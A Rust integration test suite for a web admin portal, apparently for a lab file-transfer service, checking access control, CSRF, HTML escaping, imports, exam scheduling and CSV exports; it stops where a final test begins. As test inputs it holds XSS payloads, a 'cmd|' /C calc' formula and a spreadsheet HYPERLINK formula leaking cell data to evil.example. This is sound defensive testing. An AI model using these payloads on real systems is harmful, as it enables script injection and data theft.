//! The admin portal against the real binary: who may see which page, CSRF, escaping,
//! the main admin flows (create user, import CSV with a bad row, labs, settings, revoke).
// Test code: a failed expectation stops the test loudly (the workspace denies these elsewhere).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[path = "harness/mod.rs"]
mod harness;

use harness::{Browser, Options, PASSWORD, Server};

async fn admin(s: &Server) -> Browser<'_> {
    s.admin().await;
    Browser::login(s, "admin").await
}

#[tokio::test]
async fn pages_need_sign_in_and_portal_access() {
    let s = Server::start().await;
    let r = s.client().get(s.url("/admin/users")).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/admin/login?next=/admin/users");
    s.add_user("stud", "student");
    let student = Browser::login(&s, "stud").await;
    for page in ["/admin", "/admin/users", "/admin/transfers", "/admin/audit", "/admin/settings"] {
        assert_eq!(student.get(page).await.0, 403, "{page}");
    }
    s.add_user("prof", "instructor");
    let prof = Browser::login(&s, "prof").await;
    assert_eq!(prof.get("/admin").await.0, 403, "instructors lack portal.access by default");

    let admin = admin(&s).await;
    for page in [
        "/admin",
        "/admin/users",
        "/admin/roles",
        "/admin/labs",
        "/admin/transfers",
        "/admin/broadcasts",
        "/admin/audit",
        "/admin/sessions",
        "/admin/settings",
        "/admin/users/import",
    ] {
        let (status, html) = admin.get(page).await;
        assert_eq!(status, 200, "{page}: {html}");
        assert!(html.contains("LabBeam"), "{page}");
    }

    // Give instructors portal access: they see their own audit rows; not users, and not
    // everyone's transfers (that needs transfers.view_all, as the API needs users.manage).
    let csrf = admin.csrf().await;
    let mut form = vec![("csrf", csrf.as_str())];
    for p in ["portal.access", "broadcast.send", "announce", "transfer.send", "transfer.receive", "audit.view"] {
        form.push((Box::leak(format!("perm_{p}").into_boxed_str()), "on"));
    }
    let (status, location, _) = admin.post("/admin/roles/2", &form).await;
    assert_eq!((status, location.starts_with("/admin/roles")), (303, true));
    assert_eq!(prof.get("/admin/transfers").await.0, 403);
    let (status, audit) = prof.get("/admin/audit").await;
    assert_eq!(status, 200);
    assert!(!audit.contains("<td>admin</td>"), "instructors see their own rows only");
    assert_eq!(prof.get("/admin/users").await.0, 403);
    assert_eq!(prof.get("/admin/settings").await.0, 403);
}

#[tokio::test]
async fn the_admin_role_keeps_portal_access() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let (status, _, body) = admin.post("/admin/roles/1", &[("csrf", &csrf), ("perm_users.manage", "on")]).await;
    assert_eq!(status, 400);
    assert!(body.contains("portal.access"));
    assert_eq!(admin.get("/admin/users").await.0, 200);
}

#[tokio::test]
async fn state_changes_without_a_valid_csrf_token_are_refused_and_change_nothing() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    for token in ["", "0000000000000000000000000000000000000000"] {
        let (status, _, _) = admin
            .post("/admin/users", &[("csrf", token), ("username", "mallory"), ("display_name", "M"), ("role", "admin")])
            .await;
        assert_eq!(status, 403);
    }
    let (status, _, _) =
        admin.post("/admin/users", &[("username", "mallory"), ("display_name", "M"), ("role", "admin")]).await;
    assert!(status == 403 || status == 422 || status == 400, "{status}");
    let (_, html) = admin.get("/admin/users?q=mallory").await;
    assert!(!html.contains("data-username=\"mallory\""));
    // A token from another session does not work either.
    s.add_user("other", "admin");
    let other = Browser::login(&s, "other").await;
    let foreign = other.csrf().await;
    let (status, _, _) = admin
        .post("/admin/users", &[("csrf", &foreign), ("username", "mallory"), ("display_name", "M"), ("role", "admin")])
        .await;
    assert_eq!(status, 403);
}

#[tokio::test]
async fn every_portal_form_refuses_a_post_without_the_sessions_token() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    s.add_user("kim", "student");
    assert!(s.cli(&["lab", "add", "Lab 1", "--cidr", "10.1.0.0/24"], None).status.success());
    let forms = [
        "/admin/users",
        "/admin/users/2",
        "/admin/users/2/disable",
        "/admin/users/2/enable",
        "/admin/users/2/reset-password",
        "/admin/users/2/delete",
        "/admin/users/import/confirm",
        "/admin/roles",
        "/admin/roles/3",
        "/admin/roles/3/delete",
        "/admin/labs",
        "/admin/labs/1",
        "/admin/labs/1/delete",
        "/admin/labs/1/policy",
        "/admin/labs/1/schedule",
        "/admin/labs/1/seats",
        "/admin/labs/1/seats/remove",
        "/admin/labs/1/seats/map",
        "/admin/sessions/nosuchsession/revoke",
        "/admin/settings",
        "/admin/logout",
    ];
    for path in forms {
        let (status, _, body) = admin.post(path, &[("display_name", "x"), ("confirm", "kim")]).await;
        assert_eq!(status, 403, "{path}: {body}");
    }
    // The uploads, as multipart without their token part.
    for path in ["/admin/users/import", "/admin/labs/1/seats/import"] {
        let form = reqwest::multipart::Form::new().part("file", reqwest::multipart::Part::text("username\nx\n"));
        let r = s.client().post(s.url(path)).header("cookie", &admin.cookie).multipart(form).send().await.unwrap();
        assert_eq!(r.status(), 403, "{path}");
    }
    // Nothing changed: kim is still enabled and the portal session still works.
    let (status, html) = admin.get("/admin/users/2").await;
    assert_eq!(status, 200);
    assert!(!html.contains("disabled"), "{html}");
}

#[tokio::test]
async fn names_are_escaped_everywhere() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let evil = "<script>alert(1)</script>";
    let (status, _, html) = admin
        .post("/admin/users", &[("csrf", &csrf), ("username", "evil"), ("display_name", evil), ("role", "student")])
        .await;
    assert_eq!(status, 200, "{html}");
    let (status, _, _) = admin
        .post("/admin/labs", &[("csrf", &csrf), ("name", "\"><img src=x onerror=alert(1)>"), ("ranges", "")])
        .await;
    assert_eq!(status, 303);
    for page in ["/admin/users", "/admin/labs", "/admin/audit"] {
        let (_, html) = admin.get(page).await;
        assert!(!html.contains("<script>alert(1)"), "{page}");
        assert!(!html.contains("<img src=x"), "{page}");
    }
    let (_, html) = admin.get("/admin/users").await;
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;") || html.contains("&#60;script&#62;"), "{html}");
}

#[tokio::test]
async fn create_user_shows_a_one_time_password_that_signs_in() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let (status, _, html) = admin
        .post(
            "/admin/users",
            &[("csrf", &csrf), ("username", "newbie"), ("display_name", "New Bie"), ("role", "student")],
        )
        .await;
    assert_eq!(status, 200);
    let start = html.find("data-testid=\"one-time-password\">").expect("password shown") + 32;
    let otp = &html[start..start + 20];
    let token = s.login("newbie", otp).await;
    assert_eq!(s.get("/api/me", &token).await.1["must_change_password"], true);
    let (_, audit) = admin.get("/admin/audit?action=user.create").await;
    assert!(audit.contains("user:newbie"));
}

#[tokio::test]
async fn csv_import_previews_errors_and_writes_only_on_confirm() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    s.add_user("taken", "student");
    let csv = "username,display_name,role,password\n\
               ana,Ana A,student,\n\
               ben,Ben B,instructor,a long passphrase\n\
               taken,Dup,student,\n\
               bad name,X,student,\n\
               cy,Cy,wizard,\n";
    let form = reqwest::multipart::Form::new()
        .text("csrf", csrf.clone())
        .part("file", reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("users.csv"));
    let r = s
        .client()
        .post(s.url("/admin/users/import"))
        .header("cookie", &admin.cookie)
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains("2 row(s) can be imported; 3 row(s) have errors"), "{html}");
    assert!(html.contains("already exists") && html.contains("unknown role") && html.contains("username"));
    // Nothing written yet.
    assert_eq!(s.login_raw("ben", "a long passphrase").await.status(), 401);
    let (status, _, html) = admin.post("/admin/users/import/confirm", &[("csrf", &csrf), ("csv", csv)]).await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("Imported 2 user(s); 3 row(s) with errors were skipped"), "{html}");
    s.login("ben", "a long passphrase").await;
    let (_, list) = admin.get("/admin/users?q=ana").await;
    assert!(list.contains("data-username=\"ana\""));
    let r = s.client().get(s.url("/admin/users.csv")).header("cookie", &admin.cookie).send().await.unwrap();
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let text = r.text().await.unwrap();
    assert!(text.starts_with("username,display_name,role"));
    assert!(text.contains("ben,Ben B,instructor"));
}

#[tokio::test]
async fn labs_are_validated_and_overlaps_refused() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let (status, _, _) =
        admin.post("/admin/labs", &[("csrf", &csrf), ("name", "Lab 1"), ("ranges", "10.1.0.0/24")]).await;
    assert_eq!(status, 303);
    let (status, _, html) =
        admin.post("/admin/labs", &[("csrf", &csrf), ("name", "Lab 2"), ("ranges", "10.1.0.128/25")]).await;
    assert_eq!(status, 400);
    assert!(html.contains("overlaps") && html.contains("Lab 1"), "{html}");
    let (status, _, html) =
        admin.post("/admin/labs", &[("csrf", &csrf), ("name", "Lab 3"), ("ranges", "10.1.999.0/24")]).await;
    assert_eq!(status, 400, "{html}");
    let (status, _, _) = admin.post("/admin/labs", &[("csrf", &csrf), ("name", "Other"), ("ranges", "")]).await;
    assert_eq!(status, 400);
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains("10.1.0.0/24") && !html.contains("Lab 2"));
}

/// The admin's browser, its CSRF token and the id of a new lab "Lab 2" (10.0.2.0/24).
async fn admin_with_lab_2(s: &Server) -> (Browser<'_>, String, i64) {
    let admin = admin(s).await;
    let csrf = admin.csrf().await;
    assert!(s.cli(&["lab", "add", "Lab 2", "--cidr", "10.0.2.0/24"], None).status.success());
    let db = s.store().await;
    let lab = db.int("SELECT id FROM labs WHERE name = 'Lab 2'").await;
    db.close().await;
    (admin, csrf, lab)
}

#[tokio::test]
async fn the_labs_page_switches_exam_mode_and_audits_who_did() {
    let s = Server::start().await;
    let (admin, csrf, lab) = admin_with_lab_2(&s).await;
    let db = s.store().await;
    let policy = format!("/admin/labs/{lab}/policy");
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains(&format!("action=\"{policy}\"")) && html.contains("Start exam mode"), "{html}");

    let (status, location, _) = admin.post(&policy, &[("csrf", &csrf), ("exam", "on")]).await;
    assert_eq!(status, 303, "{location}");
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Lab 2 is in exam mode") && html.contains("End exam mode"), "{html}");
    assert_eq!(db.int("SELECT exam FROM labs WHERE name = 'Lab 2'").await, 1);
    let (status, _, html) = admin.post(&policy, &[("csrf", &csrf), ("exam", "maybe")]).await;
    assert_eq!(status, 400);
    assert!(html.contains("exam mode is &#34;on&#34; or &#34;off&#34;"), "{html}");
    let (status, _, _) = admin.post("/admin/labs/999/policy", &[("csrf", &csrf), ("exam", "on")]).await;
    assert_eq!(status, 404);
    let (status, _, _) = admin.post(&policy, &[("csrf", &csrf), ("exam", "off")]).await;
    assert_eq!(status, 303);
    assert_eq!(db.int("SELECT exam FROM labs WHERE name = 'Lab 2'").await, 0);
    let audited = db
        .int("SELECT count(*) FROM audit_log WHERE action = 'lab.policy' AND target = 'lab:Lab 2' AND actor_username = 'admin'")
        .await;
    assert_eq!(audited, 2, "on and off, each naming the admin");
    db.close().await;
}

#[tokio::test]
async fn the_labs_page_sets_a_labs_visibility_and_audits_who_did() {
    let s = Server::start().await;
    let (admin, csrf, lab) = admin_with_lab_2(&s).await;
    let db = s.store().await;
    let policy = format!("/admin/labs/{lab}/policy");
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains("name=\"visibility\"") && html.contains("Now: own lab only, from presence.scope"), "{html}");

    let (status, location, _) = admin.post(&policy, &[("csrf", &csrf), ("visibility", "all")]).await;
    assert_eq!(status, 303, "{location}");
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Lab 2&#39;s students now see every lab") && html.contains("Now: all labs<"), "{html}");
    assert!(html.contains("<option value=\"all\" selected>"), "{html}");
    assert_eq!(db.int("SELECT count(*) FROM labs WHERE name = 'Lab 2' AND visibility = 'all'").await, 1);
    let (_, location, _) = admin.post(&policy, &[("csrf", &csrf), ("visibility", "all")]).await;
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("already"), "{html}");

    for (fields, want) in [
        (vec![("visibility", "everyone")], "visibility is &#34;own&#34;, &#34;all&#34; or &#34;default&#34;"),
        (vec![], "send either exam (on|off) or visibility (own|all|default)"),
        (vec![("visibility", "own"), ("exam", "on")], "send either exam"),
    ] {
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend(fields.iter().copied());
        let (status, _, html) = admin.post(&policy, &form).await;
        assert_eq!(status, 400, "{fields:?}");
        assert!(html.contains(want), "{fields:?}: {html}");
    }
    let (status, _, _) = admin.post("/admin/labs/999/policy", &[("csrf", &csrf), ("visibility", "own")]).await;
    assert_eq!(status, 404);
    let (status, _, _) = admin.post(&policy, &[("csrf", &csrf), ("visibility", "default")]).await;
    assert_eq!(status, 303);
    assert_eq!(db.int("SELECT count(*) FROM labs WHERE name = 'Lab 2' AND visibility IS NULL").await, 1);
    let audited = db
        .int(
            "SELECT count(*) FROM audit_log WHERE action = 'lab.policy' AND target = 'lab:Lab 2' \
                AND actor_username = 'admin' AND details LIKE '%\"visibility\"%'",
        )
        .await;
    assert_eq!(audited, 2, "all and default, each naming the admin; the repeat wrote nothing");
    db.close().await;
}

/// The exam window form of the Labs page: shown in the server's local time (TZ), set,
/// refused with a human message, applied by the server, ended by "End exam mode", cleared;
/// each change audited with the admin's name.
#[tokio::test]
async fn the_labs_page_schedules_an_exam_window_and_audits_who_did() {
    // The server's local time is UTC+3 all year (POSIX rules: no zone files needed).
    let s = Server::start_with(Options { env: vec![("TZ".into(), "XYZ-3".into())], ..Options::default() }).await;
    let (admin, csrf, lab) = admin_with_lab_2(&s).await;
    let db = s.store().await;
    let schedule = format!("/admin/labs/{lab}/schedule");
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains(&format!("action=\"{schedule}\"")) && html.contains("No exam window"), "{html}");
    assert!(html.contains("server's local time, now UTC+03:00"), "{html}");

    let now = harness::now();
    let local =
        |unix: i64| chrono::DateTime::from_timestamp(unix + 3 * 3600, 0).unwrap().format("%Y-%m-%dT%H:%M").to_string();
    let from = (now / 3600 + 2) * 3600;
    let until = from + 2 * 3600;
    let (status, location, _) =
        admin.post(&schedule, &[("csrf", &csrf), ("from", &local(from)), ("until", &local(until))]).await;
    assert_eq!(status, 303, "{location}");
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Lab 2&#39;s exam window is now "), "{html}");
    assert!(html.contains(" UTC+03:00: the server switches exam mode on at its start and off at its end."), "{html}");
    assert!(html.contains(&format!("value=\"{}\"", local(from))) && html.contains("Clear the window"), "{html}");
    let window = || async {
        (
            db.int("SELECT coalesce(exam_from, 0) FROM labs WHERE name = 'Lab 2'").await,
            db.int("SELECT coalesce(exam_until, 0) FROM labs WHERE name = 'Lab 2'").await,
        )
    };
    assert_eq!(window().await, (from, until));

    let (from_text, until_text) = (local(from), local(until));
    let too_long = local(from + 25 * 3600);
    for (fields, want) in [
        (vec![("from", from_text.as_str())], "Give the exam window&#39;s end (date and time)."),
        (
            vec![("from", "tomorrow"), ("until", &until_text)],
            "The exam window&#39;s start: &#34;tomorrow&#34; is not a time",
        ),
        (vec![("from", &until_text), ("until", &from_text)], "the exam window must end after it starts"),
        (
            vec![("from", &from_text), ("until", &too_long)],
            "an exam window lasts at most 24 hours; this one lasts 25 h",
        ),
        (vec![("from", &from_text), ("until", &until_text), ("clear", "1")], "send either from and until, or clear"),
        (vec![], "send either from and until, or clear"),
    ] {
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend(fields.iter().copied());
        let (status, _, html) = admin.post(&schedule, &form).await;
        assert_eq!(status, 400, "{fields:?}");
        assert!(html.contains(want), "{fields:?}: {html}");
    }
    let (status, _, _) =
        admin.post("/admin/labs/999/schedule", &[("csrf", &csrf), ("from", &from_text), ("until", &until_text)]).await;
    assert_eq!(status, 404);
    assert_eq!(window().await, (from, until), "nothing refused was written");

    // A window that started: the server switches exam mode on by itself; "End exam mode"
    // then ends the window with it.
    let (_, location, _) =
        admin.post(&schedule, &[("csrf", &csrf), ("from", &local(now - 60)), ("until", &until_text)]).await;
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("It has started: exam mode goes on within a second"), "{html}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while db.int("SELECT exam FROM labs WHERE name = 'Lab 2'").await == 0 {
        assert!(std::time::Instant::now() < deadline, "the schedule did not switch exam mode on within 5 s");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains("End exam mode"), "{html}");
    let (_, location, _) = admin.post(&format!("/admin/labs/{lab}/policy"), &[("csrf", &csrf), ("exam", "off")]).await;
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Exam mode of Lab 2 ended") && html.contains("Its exam window ("), "{html}");
    assert_eq!(window().await, (0, 0));

    // Cleared: a window to come goes; clearing again says there is none.
    admin.post(&schedule, &[("csrf", &csrf), ("from", &from_text), ("until", &until_text)]).await;
    let (_, location, _) = admin.post(&schedule, &[("csrf", &csrf), ("clear", "1")]).await;
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Lab 2&#39;s exam window is cleared.") && html.contains("No exam window"), "{html}");
    let (_, location, _) = admin.post(&schedule, &[("csrf", &csrf), ("clear", "1")]).await;
    let (_, html) = admin.get(&location).await;
    assert!(html.contains("Lab 2 has no exam window."), "{html}");

    let audited = |actor: &'static str, details: &'static str| {
        let db = &db;
        async move {
            db.int(&format!(
                "SELECT count(*) FROM audit_log WHERE action = 'lab.policy' AND target = 'lab:Lab 2' \
                    AND actor_username = '{actor}' AND details LIKE '%{details}%'"
            ))
            .await
        }
    };
    // Set, set started, ended by "End exam mode", set again, cleared.
    assert_eq!(audited("admin", "\"exam_window\"").await, 5);
    assert_eq!(audited("schedule", "\"exam\":true").await, 1);
    assert_eq!(audited("admin", "\"exam\":false").await, 1);
    // The audit page names the schedule as who switched it on.
    let (_, html) = admin.get("/admin/audit?actor=schedule").await;
    assert!(html.contains("<td>schedule</td><td>lab.policy</td><td>lab:Lab 2</td>"), "{html}");
    db.close().await;
}

/// Uploads `csv` to a lab's seat import (with `replace` ticked or not); a success is
/// followed to the page it leads to.
async fn import_seats(admin: &Browser<'_>, lab: i64, csv: &str, replace: bool) -> (u16, String) {
    let csrf = admin.csrf().await;
    let mut form = reqwest::multipart::Form::new()
        .text("csrf", csrf)
        .part("file", reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("seats.csv"));
    if replace {
        form = form.text("replace", "on");
    }
    let url = admin.s.url(&format!("/admin/labs/{lab}/seats/import"));
    let r = admin.s.client().post(url).header("cookie", &admin.cookie).multipart(form).send().await.unwrap();
    let status = r.status().as_u16();
    if status == 303 {
        let location = r.headers()["location"].to_str().unwrap().to_string();
        return admin.get(&location).await;
    }
    (status, r.text().await.unwrap())
}

/// The seats a lab's page lists, as `address=name`.
fn listed_seats(html: &str) -> Vec<String> {
    html.split("<tr data-seat=\"")
        .skip(1)
        .map(|row| {
            let cells: Vec<&str> = row.split("<td>").skip(1).map(|c| c.split("</td>").next().unwrap()).collect();
            let name = cells[1].split(" <span").next().unwrap();
            format!("{}={name}", cells[0])
        })
        .collect()
}

#[tokio::test]
async fn a_labs_seat_map_is_edited_and_imported_and_a_bad_line_changes_nothing() {
    let s = Server::start().await;
    let (admin, csrf, lab) = admin_with_lab_2(&s).await;
    let seats_page = format!("/admin/labs/{lab}/seats");

    // The Labs page links each lab to its seats.
    let (_, html) = admin.get("/admin/labs").await;
    assert!(html.contains(&format!("href=\"{seats_page}\"")) && html.contains("0 seats"), "{html}");

    // One seat at a time.
    let (status, location, _) =
        admin.post(&seats_page, &[("csrf", &csrf), ("address", "10.0.2.14"), ("name", "PC-14")]).await;
    assert_eq!((status, location.starts_with(&seats_page)), (303, true), "{location}");
    let (status, _, html) = admin.post(&seats_page, &[("csrf", &csrf), ("address", "10.0.9.1"), ("name", "Far")]).await;
    assert_eq!(status, 400);
    assert!(html.contains("data-testid=\"seat-errors\"") && html.contains("10.0.9.1 is not in the ranges"), "{html}");
    assert!(html.contains("value=\"10.0.9.1\"") && html.contains("value=\"Far\""), "the entered values are kept");
    assert!(html.contains("<nav"), "the error is shown on the page, with its navigation");

    // The whole map as text: a bad line is named with its number, nothing applied.
    let map = "10.0.2.14,PC-14\n10.0.2.15,PC-15\nnot-an-address,PC-16\n10.0.2.17,pc-15\n";
    let (status, _, html) = admin.post(&format!("{seats_page}/map"), &[("csrf", &csrf), ("seats", map)]).await;
    assert_eq!(status, 400, "{html}");
    assert!(html.contains("line 3: &#34;not-an-address&#34; is not an address"), "{html}");
    assert!(html.contains("line 4: &#34;pc-15&#34; also names 10.0.2.15 (line 2)"), "{html}");
    assert!(html.contains("10.0.2.17,pc-15"), "the text as entered is kept");
    assert_eq!(listed_seats(&html), ["10.0.2.14=PC-14"], "nothing half-applied");
    let (status, _, _) = admin
        .post(&format!("{seats_page}/map"), &[("csrf", &csrf), ("seats", "10.0.2.14,PC-14\n10.0.2.15,PC-15\n")])
        .await;
    assert_eq!(status, 303);
    let (_, html) = admin.get(&seats_page).await;
    assert_eq!(listed_seats(&html), ["10.0.2.14=PC-14", "10.0.2.15=PC-15"]);

    // A CSV file: a bad row is reported with its line and nothing is written.
    let csv = "address,name\n10.0.2.16,PC-16\n10.0.3.1,Elsewhere\n10.0.2.18\n";
    let (status, html) = import_seats(&admin, lab, csv, false).await;
    assert_eq!(status, 400, "{html}");
    assert!(html.contains("line 4: expected an address and a name"), "{html}");
    let csv = "address,name\n10.0.2.16,PC-16\n10.0.3.1,Elsewhere\n";
    let (status, html) = import_seats(&admin, lab, csv, false).await;
    assert_eq!(status, 400, "{html}");
    assert!(html.contains("line 3: 10.0.3.1 is not in the ranges"), "{html}");
    assert_eq!(listed_seats(&html), ["10.0.2.14=PC-14", "10.0.2.15=PC-15"], "nothing half-applied");
    // Added to the map, then replacing it.
    let (status, html) = import_seats(&admin, lab, "10.0.2.16,PC-16\n10.0.2.9,PC-9\n", false).await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("2 added, 0 renamed, 0 removed"), "{html}");
    assert_eq!(listed_seats(&html), ["10.0.2.9=PC-9", "10.0.2.14=PC-14", "10.0.2.15=PC-15", "10.0.2.16=PC-16"]);
    let (_, html) = import_seats(&admin, lab, "10.0.2.9,PC-09\n", true).await;
    assert!(html.contains("0 added, 1 renamed, 3 removed"), "{html}");
    assert_eq!(listed_seats(&html), ["10.0.2.9=PC-09"]);

    let (status, _, _) = admin.post(&format!("{seats_page}/remove"), &[("csrf", &csrf), ("address", "10.0.2.9")]).await;
    assert_eq!(status, 303);
    let (status, _, html) =
        admin.post(&format!("{seats_page}/remove"), &[("csrf", &csrf), ("address", "10.0.2.9")]).await;
    assert_eq!(status, 400);
    assert!(html.contains("has no seat at 10.0.2.9"), "{html}");
    let (status, _) = admin.get("/admin/labs/999/seats").await;
    assert_eq!(status, 404);

    let (_, audit) = admin.get("/admin/audit?action=lab.seats").await;
    assert!(audit.contains("lab:Lab 2"), "{audit}");
}

#[tokio::test]
async fn settings_are_validated_and_audited() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let (status, _, _) = admin.post("/admin/settings", &[("csrf", &csrf), ("transfer.request_expiry_secs", "1")]).await;
    assert_eq!(status, 400);
    let (status, location, _) = admin
        .post("/admin/settings", &[("csrf", &csrf), ("transfer.request_expiry_secs", "90"), ("presence.scope", "all")])
        .await;
    assert_eq!(status, 303, "{location}");
    let (_, html) = admin.get("/admin/settings").await;
    assert!(html.contains("value=\"90\""));
    let (_, audit) = admin.get("/admin/audit?action=setting.change").await;
    assert!(audit.contains("setting:transfer.request_expiry_secs") && audit.contains("setting:presence.scope"));
}

#[tokio::test]
async fn portal_login_form_signs_in_and_sessions_can_be_revoked() {
    let s = Server::start().await;
    s.admin().await;
    let c = s.client();
    let r = c.get(s.url("/admin/login?next=/admin/sessions")).send().await.unwrap();
    let cookie = r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();
    let html = r.text().await.unwrap();
    let start = html.find("name=\"csrf\" value=\"").unwrap() + 19;
    let csrf = html[start..start + 40].to_string();
    let form = [("csrf", csrf.as_str()), ("next", "/admin/sessions"), ("username", "admin"), ("password", PASSWORD)];
    // Without the matching cookie the form is refused.
    assert_eq!(c.post(s.url("/admin/login")).form(&form).send().await.unwrap().status(), 403);
    let wrong = [("csrf", csrf.as_str()), ("next", "/admin"), ("username", "admin"), ("password", "nope nope nope")];
    let r = c.post(s.url("/admin/login")).header("cookie", &cookie).form(&wrong).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.text().await.unwrap().contains("wrong username or password"));
    let r = c.post(s.url("/admin/login")).header("cookie", &cookie).form(&form).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/admin/sessions");
    let session = r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();
    let admin = Browser { s: &s, cookie: session };

    // Revoke a student's session: their token stops working at once.
    let token = s.as_role("sam", "student").await;
    let (_, html) = admin.get("/admin/sessions").await;
    let row = html.find("data-session-user=\"sam\"").expect("sam's session listed");
    let action = html[row..].find("/admin/sessions/").unwrap() + row;
    let end = html[action..].find('"').unwrap() + action;
    let revoke = html[action..end].to_string();
    let csrf = admin.csrf().await;
    let (status, _, _) = admin.post(&revoke, &[("csrf", &csrf)]).await;
    assert_eq!(status, 303);
    assert_eq!(s.get("/api/me", &token).await.0, 401);
}

/// The store of a running server, for rows no API can make (old transfers, odd names).
async fn store(s: &Server) -> harness::Store {
    s.store().await
}

/// A finished transfer row with these names (one broadcast recipient when `broadcast` is set).
async fn insert_transfer(db: &harness::Store, id: &str, names: [&str; 6], broadcast: Option<&str>) {
    use harness::sql_text as t;
    let [sender, receiver, sender_device, file, reason, lab] = names;
    let files = serde_json::json!([{ "name": file, "size": 5 }]).to_string();
    let broadcast = broadcast.map(t).unwrap_or_else(|| "NULL".into());
    db.exec(&format!(
        "INSERT INTO transfers (id, sender_username, receiver_username, sender_device, receiver_device, sender_lab, \
         receiver_lab, files, file_count, total_bytes, status, requested_at, failure_reason, broadcast_id) \
         VALUES ({}, {}, {}, {}, 'pc-2', {}, 'Lab B', {}, 1, 5, 'failed', {}, {}, {broadcast})",
        t(id),
        t(sender),
        t(receiver),
        t(sender_device),
        t(lab),
        t(&files),
        harness::now(),
        t(reason),
    ))
    .await;
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell of `csv` is safe to open in a spreadsheet, and each of `originals` is there,
/// exactly, behind one single quote.
fn assert_neutralised(what: &str, csv: &str, originals: &[String]) {
    let cells: Vec<String> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        assert!(!cell.starts_with(FORMULA_LEADS), "{what}: cell {cell:?} would run as a formula:\n{csv}");
    }
    for o in originals {
        assert!(cells.contains(&format!("'{o}")), "{what}: {o:?} is not exported as '{o}:\n{csv}");
    }
}

/// GET of an export as the admin; its text.
async fn export(admin: &Browser<'_>, path: &str) -> String {
    let (status, text) = admin.get(path).await;
    assert_eq!(status, 200, "{path}: {text}");
    text
}

#[tokio::test]
async fn users_csv_neutralises_cells_that_start_a_formula() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let db = store(&s).await;
    // Display names set through the command line, and two (tab, CR) that only the store
    // can hold (names are cleaned of control characters on the way in).
    let mut names = Vec::new();
    for (i, lead) in FORMULA_LEADS.iter().enumerate() {
        let name = format!("{lead}SUM(1+1)*cmd|' /C calc'!A{i}");
        let username = format!("u{i}");
        if lead.is_control() {
            s.add_user(&username, "student");
            let (name, username) = (harness::sql_text(&name), harness::sql_text(&username));
            db.exec(&format!("UPDATE users SET display_name = {name} WHERE username = {username}")).await;
        } else {
            let display = format!("--display-name={name}");
            let out =
                s.cli(&["user", "add", &username, "--role", "student", "--password-stdin", &display], Some(PASSWORD));
            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        }
        names.push(name);
    }
    // A username may start with '-' or '@' too.
    let csrf = admin.csrf().await;
    for username in ["-dash", "@at"] {
        let form = [("csrf", csrf.as_str()), ("username", username), ("display_name", "X"), ("role", "student")];
        assert_eq!(admin.post("/admin/users", &form).await.0, 200, "{username}");
        names.push(username.to_string());
    }
    assert_neutralised("users.csv", &export(&admin, "/admin/users.csv").await, &names);
}

#[tokio::test]
async fn audit_csv_neutralises_cells_that_start_a_formula() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let db = store(&s).await;
    // Anonymous failed logins put the typed username in the actor column.
    let mut typed = Vec::new();
    for lead in ['=', '+', '-', '@'] {
        let username = format!("{lead}HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
        assert_eq!(s.login_raw(&username, "wrong password").await.status(), 401, "{username}");
        typed.push(username);
    }
    // Leading tab and CR are trimmed at login; rows holding them come from the store.
    for lead in ['\t', '\r'] {
        let name = format!("{lead}=1+1");
        let (at, text) = (harness::now(), harness::sql_text(&name));
        db.exec(&format!(
            "INSERT INTO audit_log (at, actor_username, action, target, details, client_addr) \
             VALUES ({at}, {text}, 'login.failure', {text}, '{{}}', '127.0.0.1')"
        ))
        .await;
        typed.push(name);
    }
    assert_neutralised("audit.csv", &export(&admin, "/admin/audit.csv").await, &typed);
}

#[tokio::test]
async fn transfers_csv_neutralises_cells_that_start_a_formula() {
